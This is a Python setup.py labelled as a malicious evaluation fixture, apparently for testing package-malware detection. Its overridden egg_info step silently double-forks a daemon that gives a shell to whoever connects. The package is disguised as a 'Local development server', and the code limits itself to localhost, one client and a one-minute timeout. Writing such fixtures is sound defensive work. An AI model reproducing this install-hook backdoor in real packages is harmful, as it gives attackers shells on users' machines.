# Evaluation fixture (malicious): a bind shell.  An overridden egg_info
# double-forks a daemon that listens on a TCP port and gives a shell to
# whoever connects; it announces the port in a file (as real ones announce
# it to their C2).  Acts only inside the evaluation: it listens on
# 127.0.0.1 only, writes the port to SP_MARK, serves at most one client and
# gives up after a minute.
import os
import socket
import subprocess

from setuptools import setup
from setuptools.command.egg_info import egg_info


def _serve(mark):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    with open(os.path.join(mark, "bind.port.tmp"), "w") as f:
        f.write("%d\n" % srv.getsockname()[1])
    os.rename(os.path.join(mark, "bind.port.tmp"), os.path.join(mark, "bind.port"))
    srv.settimeout(60)
    try:
        c, _ = srv.accept()
    except OSError:
        return
    subprocess.call(["/bin/sh"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())


class EggInfo(egg_info):
    def run(self):
        mark = os.environ.get("SP_MARK")
        if mark and os.environ.get("SP_TOKEN") and not os.path.exists(os.path.join(mark, "bind.port")):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    fd = os.open(os.devnull, os.O_RDWR)
                    for i in (0, 1, 2):
                        os.dup2(fd, i)
                    try:
                        _serve(mark)
                    finally:
                        os._exit(0)
                os._exit(0)
        super().run()


setup(
    name="bind-shell",
    version="0.6.1",
    description="Local development server",
    py_modules=["devserve"],
    cmdclass={"egg_info": EggInfo},
)
